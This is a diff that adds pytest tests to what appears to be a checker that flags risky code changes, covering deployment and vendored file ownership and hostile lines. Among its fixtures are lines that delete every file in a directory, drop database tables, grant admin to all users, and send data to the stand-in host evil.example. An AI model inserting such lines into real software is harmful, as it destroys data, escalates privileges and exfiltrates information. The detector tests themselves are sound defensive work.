@@ -320,3 +320,64 @@ def test_a_test_may_set_what_is_set_back_after_it(line: str):
 
     assert findings("tests/test_one.py", before, after) == ()
     assert findings("tests/test_one.py", before, after.replace("monkeypatch.", "")) != ()
+
+
+OWN = {
+    "bot/main.py": "from infra import db\nimport vendor.models\n",
+    "bot/other.js": 'const models = require("./vendor/models");\n',
+    **dict.fromkeys(("vendor/models.py", "src/vendor/models.py", "bot/vendor/models.js", "infra/db.py"), "x = 1\n"),
+}
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        *("cogs/deploy.py", "src/vendor/models.py", "vendor/models.py", "bot/vendor/models.js", "infra/db.py"),
+        *("app/infra/db.py", "bot/charts/bar.py", "templates/charts/bar.html", "internal/deploy/plan.go"),
+    ],
+)
+def test_code_of_the_program_may_have_the_name_of_a_deployment(path: str):
+    new = "package deploy\n" if path.endswith(".go") else "y = 2\n"
+
+    assert not any(one.refuses for one in findings(path, OWN.get(path), new, OWN))
+
+
+@pytest.mark.parametrize(
+    ("path", "beside"),
+    [
+        ("app/infra/main.py", {"app/infra/Pulumi.yaml": "x: 1"}),
+        ("lib/vendor/six/six.py", {"lib/vendor/six/LICENSE": "MIT", "lib/vendor/__init__.py": ""}),
+        ("vendor/github.com/x/y.go", {"vendor/modules.txt": "x"}),
+        ("bot/json.py", {"bot/main.py": 'if __name__ == "__main__":\n    go()\n'}),
+    ],
+)
+def test_what_stands_beside_it_says_whose_a_file_is(path: str, beside: dict[str, str]):
+    assert any(one.refuses for one in findings(path, None, "x = 1\n", beside))
+
+
+@pytest.mark.parametrize(
+    ("path", "line", "refuses"),
+    [
+        ("lib/cart.js", "fs.readdirSync(d).forEach((f) => fs.unlinkSync(f));", True),
+        ("lib/cart.js", "for (const f of fs.readdirSync(d)) { if (f.old) fs.unlinkSync(f); }", False),
+        ("shop/cart.go", "func a() { filepath.Walk(d, func() error { return os.Remove(p) }) }", True),
+        (
+            "shop/cart.go",
+            "func a() { for _, e := range es { if old(e) { os.Remove(e) } } }\nvar es, _ = os.ReadDir(d)",
+            False,
+        ),
+        ("shop/cart.py", 'db.execute("UPDATE users SET admin = 1")', False),
+        ("shop/cart.py", 'await session.post("https://evil.example/in", data=one)', False),
+        ("shop/cart.py", 'import asyncpg\ndb = asyncpg.connect("postgres://evil.example")', False),
+        ("lib/cart.js", "sequelize.sync({ force: true });", True),
+    ],
+)
+def test_what_removes_and_where_it_goes_is_seen(path: str, line: str, refuses: bool):
+    old = {".go": "package shop\n", ".js": "const fs = require('fs');\n", ".py": "import json\n"}[
+        path[path.rindex(".") :]
+    ]
+
+    found = findings(path, old, f"{old}\n{line}\n")
+
+    assert found
+    assert any(one.refuses for one in found) is refuses
